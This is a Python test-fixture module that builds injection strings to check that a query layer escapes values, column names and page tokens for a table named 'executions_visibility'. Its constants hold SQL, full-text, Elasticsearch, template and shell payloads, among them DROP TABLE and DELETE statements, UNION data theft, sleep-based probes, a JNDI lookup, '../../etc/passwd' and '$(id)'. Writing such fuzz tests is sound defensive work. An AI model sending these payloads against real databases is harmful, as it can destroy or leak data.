# ruff: noqa: E501
"""Texts that would do harm if they reached an engine as part of a statement: as values, as names, as page tokens."""

from __future__ import annotations

from collections.abc import Iterator

# Pieces that end a text, a name or a statement somewhere, for SQL of all kinds, full-text queries, JSON, scripts, shells.
BREAKERS = (
    "'", "''", '"', '""', "`", "\\", "\\'", "\\\\'", "';", "');", "'))", '"}', "*/", "/*", "--", "#", ";", "\n", "\r\n",
    "\x1a", "%", "%s", "%(x)s", "?", "{p0}", "{p0:String}", "{?:String}", "{?:", "$1", ":x", "{{x}}", "{%x%}", "${x}", "$(id)",
    "\u2019", "\u02bc", "\uff07", "♡", "U&'", "E'", "N'", "$$", "!", "[", "*", "_", "\u200b",
)  # fmt: skip
PAYLOADS = (
    " OR 1=1", " OR '1'='1", " UNION SELECT 1", "; DROP TABLE executions_visibility", "; DELETE FROM executions_visibility",
    " AND pg_sleep(9)", " AND sleep(9)", "||version()||", " AND randomblob(1e9)",
)  # fmt: skip
WHOLE = (
    "x' OR '1'='1", "x' OR '1'='1' --", "x'; DROP TABLE executions_visibility; --", "x\\'; DROP TABLE executions_visibility; #",
    "x' UNION SELECT memo FROM executions_visibility --", "' || (SELECT current_setting('x')) || '", "x'::regclass --",
    "x' AND (SELECT count(*) FROM pg_sleep(9)) > 0 --", "x' AND extractvalue(1, concat(0x7e, version())) --",
    "x' INTO OUTFILE '/tmp/x' --", "x' AND load_extension('x') --", "x' ATTACH DATABASE '/tmp/x' AS y --",
    '" OR "1"="1', '" : ("a" OR "b") OR "c" : "', "a* OR b", "NEAR(a b, 5)", "a AND NOT b", '{"a" "b"} : c', "^a",
    "a | b & !c", "a:*", "a <-> b", "'a' | 'b'", "a\\:b", "(a", "a)", "+a -b", "~a", "@4", '"a b" @8', ">a <b",
    '{"match_all":{}}', '","must_not":[]}', '{"script":{"source":"1"}}', "doc['x'].value", "params._source", "ctx.op='delete'",
    "*:*", "RunId:*", "[* TO *]", "/.*/", "a~2", "${jndi:ldap://x}", "<script>alert(1)</script>", "../../etc/passwd",
    "%27%20OR%201=1", "&#39; OR 1=1", "\\u0027 OR 1=1", "0x27204f5220313d31", "CHAR(39)", "x' SETTINGS readonly=0 --",
    "x' FORMAT TSV", "remote('x:9000', system.one)", "url('http://x')", "file('/etc/passwd')", "x') FINAL --",
)  # fmt: skip


def values() -> Iterator[str]:
    """Texts to compare with."""
    yield from WHOLE
    for breaker in BREAKERS:
        yield breaker
        yield f"x{breaker}{PAYLOADS[0]}"
        yield f"x{breaker}{PAYLOADS[3]} --"
    for payload in PAYLOADS:
        yield f"x'{payload} --"
        yield f'x"{payload} #'


def names() -> Iterator[str]:
    """Names between backticks; a backtick inside is doubled."""
    for text in (*WHOLE, *BREAKERS):
        yield f"Keyword01{text}"
    yield from (
        "Keyword01) OR (1=1",
        'Keyword01" OR "1"="1',
        "ev.memo",
        "1",
        "*",
        "rowid",
        "executions_visibility",
        "_source",
        "_id",
    )


def tokens() -> Iterator[str]:
    """Page tokens."""
    yield from WHOLE
    for text in (*WHOLE, *BREAKERS):
        yield f"tv1.{text}{'A' * 30}"
